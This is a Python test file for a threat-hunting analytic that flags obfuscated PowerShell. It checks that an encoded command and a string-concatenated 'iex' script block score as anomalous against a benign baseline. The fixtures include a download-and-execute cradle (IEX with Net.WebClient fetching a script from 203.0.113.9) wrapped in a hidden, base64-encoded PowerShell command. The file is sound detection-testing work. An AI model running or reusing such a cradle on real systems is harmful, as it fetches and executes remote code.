"""Commands that are written to be read by nobody, from events to sentences."""

from __future__ import annotations

import base64
from pathlib import Path
from typing import Any

from hunt_samples import DAY, HOUR, MINUTE, START, SYSTEM32, Event, guid, lake_of, process
from vizsla.analytics.obfuscation import ANALYTIC, QUIET
from vizsla.hunt.observed import observe
from vizsla.hunt.scope import scans_of

SHELL = f"{SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe"
SAYS = "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')"
ENCODED = f"powershell.exe -nop -w hidden -enc {base64.b64encode(SAYS.encode('utf-16-le')).decode()}"


def quiet(days: range) -> list[Event]:
    events = []
    for day in days:
        for hour in range(8, 18):
            at = START + day * DAY + hour * HOUR
            says = f"powershell.exe -File C:\\Scripts\\Collect-Inventory.ps1 -Hour {hour}"
            events.append(process(at, "ws1", SHELL, key=(day, hour), CommandLine=says))
            says = f'"{SYSTEM32}ping.exe" -n {hour} 10.0.0.{hour}'
            events.append(process(at + MINUTE, "ws1", SYSTEM32 + "ping.exe", key=(day, hour, 1), CommandLine=says))
    return events


def found(tmp_path: Path, engine: Any, hunted: list[Event]) -> list[dict[str, Any]]:
    baseline, hunt = lake_of(tmp_path / "baseline", quiet(range(5))), lake_of(tmp_path / "hunt", hunted)
    state = ANALYTIC.learn(engine, scans_of(baseline, engine))
    return observe(engine, scans_of(hunt, engine), ANALYTIC, state).sort_by([("score", "descending")]).to_pylist()


def test_what_reads_like_always_is_quiet(tmp_path: Path, duckdb_engine) -> None:
    rows = found(tmp_path, duckdb_engine, quiet(range(9, 10)))
    assert [(row["n"], row["why"]) for row in rows] == [(20, QUIET[0])]


def test_an_encoded_command_is_decoded_and_shown(tmp_path: Path, duckdb_engine) -> None:
    evil = process(START + 9 * DAY, "ws1", SHELL, key="evil", CommandLine=ENCODED)
    first = found(tmp_path, duckdb_engine, [evil, *quiet(range(9, 10))])[0]
    assert first["score"] > 5
    assert first["why"] == (
        "characters that were encoded, as many as here: in 0 of 50 texts of powershell.exe before "
        f"(of all programs in 0 of 100); utf-16 in base64 within says: {SAYS}"
    )
    assert first["process_guid"] == guid("evil").strip("{}")
    assert first["pattern"] == "powershell.exe: encoded"


def test_scripts_are_read_as_well(tmp_path: Path, duckdb_engine) -> None:
    block = {"table": "windows_powershell", "_time": START + 9 * DAY, "_host": "ws1", "EventID": "4104",
             "Channel": "Microsoft-Windows-PowerShell/Operational", "Computer": "ws1", "ExecutionProcessID": "77",
             "ScriptBlockText": "& ('i'+'e'+'x') (\"{2}{0}{1}\"-f'a','b','c')" * 3}  # fmt: skip
    rows = found(tmp_path, duckdb_engine, [block, *quiet(range(9, 10))])
    assert rows[0]["kind"] == "windows_powershell:4104"
    assert rows[0]["pid"] == "77"
    assert rows[0]["why"].startswith("quotes, carets, brackets")


def test_a_command_of_a_megabyte_is_looked_at_and_goes_on(tmp_path: Path, duckdb_engine) -> None:
    evil = process(START + 9 * DAY, "ws1", SHELL, key="evil", CommandLine="powershell -enc " + "QUJD" * 250_000)
    first = found(tmp_path, duckdb_engine, [evil, *quiet(range(9, 10))])[0]
    assert first["score"] > 3
    assert len(first["why"]) < 1_000
